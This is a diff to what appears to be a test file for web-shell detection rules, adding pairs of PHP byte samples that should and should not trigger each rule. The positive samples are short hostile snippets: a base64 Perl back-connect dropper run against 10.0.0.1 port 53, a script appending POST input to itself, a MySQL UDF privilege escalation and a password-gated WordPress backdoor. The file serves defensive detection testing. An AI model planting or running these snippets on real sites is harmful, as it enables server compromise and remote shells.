@@ -60,6 +60,48 @@ SECKILL_NEAR = (
     b"$wpdb->query(\"truncate {$wpdb->prefix}wfIssues\");\ndelete_option('wordfence_version');\n"
 )
 
+ELF_DROPPER = (
+    b"<?php\n$b = 'IyEvdXNyL2Jpbi9lbnYgcGVybAp1c2UgU29ja2V0OyAjIGJhY2sgY29ubmVjdA==';\n"
+    b"file_put_contents('/tmp/x', base64_decode($b));\nshell_exec('perl /tmp/x 10.0.0.1 53');\n"
+)
+ELF_DROPPER_NEAR = (
+    b"<?php\n// shows an example base64 blob in docs, no write, no command\n"
+    b"$example = 'IyEvdXNyL2Jpbi9lbnYgcGVybAp1c2UgU29ja2V0OyAjIGJhY2sgY29ubmVjdA==';\n"
+    b"echo htmlspecialchars($example);\n"
+)
+
+SELF_APPEND = (
+    b"<?php\n$t = '<p>' . $_POST['msg'] . '</p>';\n$f = fopen(__FILE__, 'a');\nfwrite($f, $t);\nfclose($f);\n"
+)
+SELF_APPEND_NEAR = (
+    b"<?php\n// guestbook stored in a data file, not in the script\n"
+    b"$f = fopen(__DIR__ . '/book.txt', 'a');\nfwrite($f, htmlspecialchars($_POST['msg']));\n"
+    b"$me = fopen(__FILE__, 'r');\n"
+)
+
+UDF = (
+    b"<?php\nif ($_POST['go']) {\n"
+    b"  mysql_query(\"select unhex('4d5a') into dumpfile '\" . $_POST['p'] . \"'\");\n"
+    b"  mysql_query(\"create function sys_x returns string soname 'x.dll'\");\n}\n"
+)
+UDF_NEAR = (
+    b"<?php\n// backup tool: export to a server-side file, no UDF\n"
+    b"$db->query(\"SELECT * FROM t INTO OUTFILE '/var/backups/t.csv'\");\n"
+    b"echo $_GET['done'] ?? '';\n"
+)
+
+WP_CONTENT = (
+    b"<?php\nif (isset($_REQUEST['pw']) && $_REQUEST['pw'] == '0123456789abcdef0123456789abcdef') {\n"
+    b"  switch ($_REQUEST['do']) {\n    case 'set':\n"
+    b"      $wpdb->query('UPDATE posts SET c = ' . $wpdb->prepare('%s', $_REQUEST['data']));\n"
+    b"      break;\n  }\n}\n"
+)
+WP_CONTENT_NEAR = (
+    b"<?php\nif (!wp_verify_nonce($_REQUEST['_n'], 'save')) die;\n"
+    b"switch ($_REQUEST['do']) {\n  case 'set':\n"
+    b"    $wpdb->update($wpdb->posts, ['post_content' => wp_kses_post($_REQUEST['data'])], ['ID' => 1]);\n}\n"
+)
+
 CASES: list[tuple[str, bytes, bool]] = [
     ("SPAMGEAR_SHELL_ActionDispatchFromInput", DISPATCH, True),
     ("SPAMGEAR_SHELL_ActionDispatchFromInput", DISPATCH_NEAR, False),
@@ -74,4 +116,12 @@ CASES: list[tuple[str, bytes, bool]] = [
     ("SPAMGEAR_SHELL_SwitchedHostProbe", PROBE_NEAR, False),
     ("SPAMGEAR_SHELL_SecurityPluginKiller", SECKILL, True),
     ("SPAMGEAR_SHELL_SecurityPluginKiller", SECKILL_NEAR, False),
+    ("SPAMGEAR_SHELL_EncodedExecutableDropper", ELF_DROPPER, True),
+    ("SPAMGEAR_SHELL_EncodedExecutableDropper", ELF_DROPPER_NEAR, False),
+    ("SPAMGEAR_SHELL_SelfAppendFromInput", SELF_APPEND, True),
+    ("SPAMGEAR_SHELL_SelfAppendFromInput", SELF_APPEND_NEAR, False),
+    ("SPAMGEAR_SHELL_MysqlUdfEscalation", UDF, True),
+    ("SPAMGEAR_SHELL_MysqlUdfEscalation", UDF_NEAR, False),
+    ("SPAMGEAR_SHELL_WpRemoteContentBackdoor", WP_CONTENT, True),
+    ("SPAMGEAR_SHELL_WpRemoteContentBackdoor", WP_CONTENT_NEAR, False),
 ]
